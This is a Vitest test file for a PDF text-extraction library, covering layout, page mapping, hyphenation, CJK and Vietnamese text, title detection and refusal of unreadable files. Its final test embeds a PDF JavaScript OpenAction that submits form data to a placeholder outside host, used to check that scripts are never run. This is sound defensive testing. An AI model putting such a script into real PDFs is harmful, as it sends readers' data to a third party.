import { describe, expect, it } from 'vitest'
import { LIMITS } from '#lib/reading/limits'
import { letters } from '#lib/reading/pdf/shapes'
import { pdfOf, plainPdf } from './made/pdf.ts'
import { expectRefused, readOne } from './reads.ts'

const columns = (text: string): Promise<Uint8Array<ArrayBuffer>> =>
  pdfOf((pdf) => {
    pdf.fontSize(16).text('A report on the harbour', { align: 'center' }).moveDown()
    pdf.fontSize(10).text(text, { columns: 2, columnGap: 24, height: 160, align: 'left' })
  })
const sentences = Array.from(
  { length: 11 },
  (_, n) => `Sentence number ${n + 1} of this report says that the union office near the old harbour stayed open.`,
)
const flat = (text: string): string => text.replace(/\s+/g, ' ').trim()

describe('a PDF', () => {
  it('is read column by column, whatever order its lines are drawn in', async () => {
    const { doc } = await readOne('report.pdf', await columns(sentences.join(' ')))
    expect(flat(doc.text)).toBe(`A report on the harbour ${sentences.join(' ')}`)
    expect(doc).toMatchObject({ title: 'A report on the harbour', format: 'pdf', lang: 'en' })
    // Drawn across: the first line of both columns, then the second …
    const left = [
      'The harbour office was',
      'opened by the union in',
      'spring and has served',
      'workers ever since then.',
    ]
    const right = [
      'In autumn a second one',
      'was opened on the hill',
      'above the market, and it',
      'is visited much as well.',
    ]
    const rows = left.flatMap((text, at) => [
      { x: 72, y: 700 - 14 * at, text },
      { x: 330, y: 700 - 14 * at, text: right[at] ?? '' },
    ])
    const across = await readOne('rows.pdf', plainPdf([rows], 8))
    expect(flat(across.doc.text)).toBe(`${left.join(' ')} ${right.join(' ')}`)
  })

  it('says which page each word stands on, and leaves running heads and page numbers out', async () => {
    const pages = ['first', 'second', 'third', 'fourth'].map((word, at) => [
      { x: 72, y: 800, text: 'Journal of Harbours' },
      { x: 72, y: 700, text: `The ${word} page speaks of unions.` },
      { x: 72, y: 600, text: `It is the ${word} one.` },
      { x: 290, y: 40, text: String(at + 1) },
    ])
    const { doc } = await readOne('pages.pdf', plainPdf(pages))
    expect(doc.text).not.toMatch(/Journal of Harbours|\d/)
    for (const [at, word] of ['first', 'second', 'third', 'fourth'].entries()) {
      const place = doc.text.indexOf(`The ${word} page`)
      const page = doc.pages?.find(({ start, end }) => start <= place && place < end)
      expect(page?.page).toBe(at + 1)
      expect(doc.text.slice(page?.start, page?.end)).toBe(
        `The ${word} page speaks of unions.\n\nIt is the ${word} one.`,
      )
    }
  })

  it('joins a sentence over the end of a page, and still knows the page of each part', async () => {
    const long = 'The delegates from all the provinces spoke'
    const { doc } = await readOne(
      'over.pdf',
      plainPdf([[{ x: 72, y: 100, text: long }], [{ x: 72, y: 760, text: 'of the mass line until the evening.' }]]),
    )
    expect(doc.text).toBe(`${long} of the mass line until the evening.`)
    expect(doc.pages?.map(({ page, start, end }) => [page, doc.text.slice(start, end)])).toEqual([
      [1, long],
      [2, 'of the mass line until the evening.'],
    ])
  })

  it.each([
    ['a word that the line end cut', ['The organi-', 'zation grew.'], 'The organization grew.'],
    [
      'a hyphen of the author',
      ['A state-owned mill, a state-', 'owned shop.'],
      'A state-owned mill, a state-owned shop.',
    ],
    ['names joined by a hyphen', ['The Marxist-', 'Leninist view.'], 'The Marxist-Leninist view.'],
    ['ligatures', ['The \ufb01rst o\ufb03ce \ufb02oor.'], 'The first office floor.'],
    ['radicals', ['⼈⺠⽇报⻅闻'], '人民日报见闻'],
    ['Chinese lines', ['中国共产党', '和人民'], '中国共产党和人民'],
    ['Vietnamese', ['Công đoàn Việt', 'Nam họp.'], 'Công đoàn Việt Nam họp.'],
    ['full-width letters, which are the author’s', ['ＡＢＣ，第１次'], 'ＡＢＣ，第１次'],
  ])('has %s right', async (_, lines, text) => {
    const placed = lines.map((line, at) => ({ x: 72, y: 700 - 14 * at, text: line }))
    expect((await readOne('a.pdf', plainPdf([placed]))).doc.text).toBe(text)
  })

  it('parts paragraphs where the page does', async () => {
    const lines = [
      [700, 'A Heading'],
      [670, 'One line that goes'],
      [656, 'on and ends here.'],
      [628, 'Another paragraph.'],
    ] as const
    const pdf = plainPdf([lines.map(([y, text]) => ({ x: 72, y, text }))])
    expect((await readOne('a.pdf', pdf)).doc.text).toBe(
      'A Heading\n\nOne line that goes on and ends here.\n\nAnother paragraph.',
    )
  })

  it('believes its title where the text has it too', async () => {
    const draw = (pdf: PDFKit.PDFDocument) =>
      pdf.text('12 March').moveDown().text('On harbours and unions').moveDown().text('Text.')
    const believed = await readOne('a.pdf', await pdfOf(draw, { info: { Title: 'On Harbours and Unions' } }))
    expect(believed.doc.title).toBe('On Harbours and Unions')
    const other = await readOne('a.pdf', await pdfOf(draw, { info: { Title: 'Microsoft Word - draft7.doc' } }))
    expect(other.doc.title).not.toContain('draft7')
  })

  it('maps every radical to a character that is none', () => {
    for (let code = 0x2e81; code <= 0x2ef3; code++) {
      if (code === 0x2e9a) continue
      expect(letters(String.fromCodePoint(code))).not.toMatch(/[\u2e80-\u2fdf]/)
    }
  })

  it('is refused by name where it cannot be read', async () => {
    const text = (pdf: PDFKit.PDFDocument) => pdf.text('Some words.')
    const locked = await pdfOf(text, { userPassword: 'secret' })
    const drawn = await pdfOf((pdf) => pdf.rect(100, 100, 200, 200).fill('grey').addPage())
    const good = await pdfOf(text)
    await expectRefused('locked.pdf', locked, /locked with a password/)
    await expectRefused('scan.pdf', drawn, /none of its 2 pages holds text: it seems to be a scan/)
    const elsewhere = plainPdf([[{ x: 72, y: 700, text: '工会' }]], 12, '/UniGB-UCS2-H')
    await expectRefused('elsewhere.pdf', elsewhere, /fonts are not in the file/)
    await expectRefused('cut.pdf', good.slice(0, 300), /no PDF that can be read|scan/)
    await expectRefused('not.pdf', 'Just words.', /does not begin as a \.pdf/)
    await expectRefused('many.pdf', await pdfOf((pdf) => pdf.addPage().addPage()), /3 pages, the limit is 2/, {
      limits: { ...LIMITS, pages: 2 },
    })
    await expectRefused('unsaid.pdf', plainPdf([[{ x: 72, y: 700, text: '\ue001\ue002\ue003' }]]), /fonts do not say/)
  })

  it('does nothing that its scripts say', async () => {
    const pdf = await pdfOf((one) => {
      one.text('Harmless words.')
      const script = one.ref({
        S: 'JavaScript',
        JS: new String('app.alert(1); this.submitForm("http://elsewhere.example")'),
      })
      script.end({})
      Object.assign((one as unknown as { _root: { data: object } })._root.data, { OpenAction: script })
    })
    expect((await readOne('script.pdf', pdf)).doc.text).toBe('Harmless words.')
  })
})
